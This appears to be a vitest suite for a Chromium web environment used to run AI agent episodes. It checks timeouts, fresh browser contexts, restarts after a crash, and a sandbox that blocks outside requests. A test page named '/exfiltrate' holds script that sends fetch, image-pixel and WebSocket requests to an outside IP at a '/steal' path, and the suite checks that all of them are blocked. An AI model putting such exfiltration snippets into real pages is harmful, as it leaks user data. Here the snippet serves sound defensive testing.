/**
 * The web environment on real Chromium (/usr/bin/chromium or $ESOPT_CHROMIUM, through playwright-core).
 * One browser for the whole file. If Chromium cannot be found, every test here fails with the reason.
 */
import type { AddressInfo } from 'node:net';
import { serve, type ServerType } from '@hono/node-server';
import { Hono } from 'hono';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runEpisode } from '../../environments/episode-runner.ts';
import { ChromiumBackend } from '../../environments/web/chromium-backend.ts';
import { chooseChromium } from '../../environments/web/chromium-executable.ts';
import { web } from '../../environments/web/definition.ts';
import { WebEnvironment } from '../../environments/web/environment.ts';
import { closeWebRuntime, taskServer, webBackend } from '../../environments/web/runtime.ts';
import type { TaskServer } from '../../environments/web/task-server.ts';
import { TASK_TYPE_NAMES } from '../../environments/web/task-types/index.ts';
import { pageDocument } from '../../environments/web/page-document.ts';
import { WebOptions, type WebTask } from '../../environments/web/task.ts';

const reply = (text: string) => ({ text, tokens: { prompt: 0, completion: 0 }, inferenceMs: 0 });

/** Hostile and broken pages (with the real bridge), on a second loopback server of the test's own. */
const hostile = new Hono();
const page = (path: string, body: string, script: string) =>
  hostile.get(path, (c) => c.html(pageDocument({ title: path.slice(1), goal: 'none', body, script, data: null })));
page(
  '/exfiltrate',
  '<p id="status">pending</p>',
  `fetch('http://93.184.216.34/steal?d=1').then(function () { document.getElementById('status').textContent = 'reached'; }, function () { document.getElementById('status').textContent = 'fetch blocked'; });
new Image().src = 'http://93.184.216.34/pixel.gif';
try { new WebSocket('ws://93.184.216.34/socket'); } catch (e) {}`,
);
page('/spin-on-load', '<p>spinning</p>', 'for (;;) {}');
page('/spin-on-click', '<button onclick="for (;;) {}">spin</button>', '');
// After the first observation, the page's verdict is a promise that never settles.
page('/never-resolves', '<button>wait</button>', "document.querySelector('button').addEventListener('click', function () { window.__esopt.result = function () { return new Promise(function () {}); }; });");
page('/remember', '<p id="seen"></p>', "document.getElementById('seen').textContent = 'seen: ' + localStorage.getItem('k') + ' ' + document.cookie; localStorage.setItem('k', 'before'); document.cookie = 'c=before';");

let hostileServer: ServerType;
let hostileOrigin: string;
let backend: ChromiumBackend;
let server: TaskServer;
const options = WebOptions.parse({ backend: 'chromium' });

/** A task server stand-in that serves one of the hostile pages for every task. */
function serving(path: string): TaskServer {
  return { origin: hostileOrigin, urlOf: () => `${hostileOrigin}${path}`, mount: () => `${hostileOrigin}/`, close: async () => {} };
}

beforeAll(async () => {
  chooseChromium(undefined); // fails with "Chromium not found at … install it …" when it is missing
  backend = webBackend({ backend: 'chromium' }) as ChromiumBackend;
  server = await taskServer();
  hostileServer = await new Promise<ServerType>((resolve) => {
    const s = serve({ fetch: hostile.fetch, hostname: '127.0.0.1', port: 0 }, () => resolve(s));
  });
  hostileOrigin = `http://127.0.0.1:${(hostileServer.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await closeWebRuntime();
  if (hostileServer) await new Promise((resolve) => hostileServer.close(resolve));
});

describe('web environment on Chromium', () => {
  it('names the missing executable and how to fix it', () => {
    expect(() => new ChromiumBackend('/nonexistent/chromium')).toThrow(/Chromium not found at \/nonexistent\/chromium.*apt-get install chromium.*ESOPT_CHROMIUM.*executablePath/);
  });

  it("every task type's oracle succeeds in the real browser", async () => {
    for (const type of TASK_TYPE_NAMES) {
      const task = { type, seed: 11 } as WebTask;
      const result = await runEpisode({ definition: web, task, options, policy: web.oracle(task, options), seed: 0 });
      expect({ type, reward: result.reward, error: result.error, stop: result.stopReason }).toEqual({ type, reward: 1, error: null, stop: 'done' });
    }
  });

  it('blocks every request that is not to the task server inside the browser', async () => {
    const page = await backend.open({ url: `${hostileOrigin}/exfiltrate`, allowedOrigin: hostileOrigin, screenLines: 30, timeoutMs: 5_000 });
    try {
      // The page's own fetch fails: the browser aborted the request instead of sending it.
      await expect.poll(() => page.observe(), { timeout: 5_000 }).toMatch(/text "fetch blocked"/);
      await expect.poll(() => page.blockedRequests.length, { timeout: 5_000 }).toBeGreaterThanOrEqual(3);
      expect(page.blockedRequests).toEqual(expect.arrayContaining(['http://93.184.216.34/steal?d=1', 'http://93.184.216.34/pixel.gif', 'ws://93.184.216.34/socket']));
    } finally {
      await page.close();
    }
  });

  it('a page that loops forever while loading cannot hold the episode, and the browser stays usable', async () => {
    const env = new WebEnvironment({ type: 'click-button', seed: 1 }, { ...options, actionTimeoutMs: 1_000 }, serving('/spin-on-load'), backend);
    const started = Date.now();
    await expect(env.reset(0)).rejects.toThrow(/took longer than|Timeout/);
    await env.close();
    expect(Date.now() - started).toBeLessThan(10_000);
    const task = { type: 'click-button', seed: 2 } as WebTask;
    const ok = await runEpisode({ definition: web, task, options, policy: web.oracle(task, options), seed: 0 });
    expect(ok.reward).toBe(1);
  });

  it('a page that hangs on an action or never answers ends the episode with reward 0 at the action timeout', async () => {
    for (const path of ['/spin-on-click', '/never-resolves']) {
      const env = new WebEnvironment({ type: 'click-button', seed: 1 }, { ...options, actionTimeoutMs: 1_000 }, serving(path), backend);
      const started = Date.now();
      const result = await runEpisode({ environment: env, policy: { act: async () => reply('click 1') }, seed: 0 });
      expect(result.reward).toBe(0);
      expect(Date.now() - started).toBeLessThan(12_000);
      const last = result.transcript.at(-1);
      expect(last).toMatchObject({ kind: 'observation', done: true });
      expect(JSON.stringify(last)).toMatch(/took longer than 1000 ms/);
    }
    const task = { type: 'enter-text', seed: 2 } as WebTask;
    expect((await runEpisode({ definition: web, task, options, policy: web.oracle(task, options), seed: 0 })).reward).toBe(1);
  });

  it('ends an episode at its deadline', async () => {
    const env = await web.create({ type: 'reorder-list', seed: 5 }, { ...options, episodeTimeoutMs: 1_500 });
    await env.reset(0);
    await new Promise((r) => setTimeout(r, 1_600));
    const step = await env.step(reply('scroll down'));
    expect(step).toMatchObject({ done: true, reward: 0 });
    expect(step.info.error).toMatch(/deadline/);
    await env.close();
  });

  it('gives every episode a fresh context (no storage or cookies carried over)', async () => {
    for (let i = 0; i < 2; i++) {
      const page = await backend.open({ url: `${hostileOrigin}/remember`, allowedOrigin: hostileOrigin, screenLines: 30, timeoutMs: 5_000 });
      expect(await page.observe()).toMatch(/text "seen: null"/);
      await page.close();
    }
  });

  it('reuses one browser across episodes, and restarts it when it dies', async () => {
    const task = { type: 'login', seed: 4 } as WebTask;
    const pid = await backend.browserPid();
    expect((await runEpisode({ definition: web, task, options, policy: web.oracle(task, options), seed: 0 })).reward).toBe(1);
    expect(await backend.browserPid()).toBe(pid);
    process.kill(pid, 'SIGKILL');
    const result = await runEpisode({ definition: web, task, options, policy: web.oracle(task, options), seed: 0 });
    expect(result).toMatchObject({ reward: 1, error: null });
    expect(await backend.browserPid()).not.toBe(pid);
  });

  it('the task server only serves known task types and seeds', async () => {
    expect((await fetch(`${server.origin}/task/click-button/7`)).status).toBe(200);
    expect((await fetch(`${server.origin}/task/no-such-type/7`)).status).toBe(404);
    expect((await fetch(`${server.origin}/task/click-button/-1`)).status).toBe(404);
  });
});
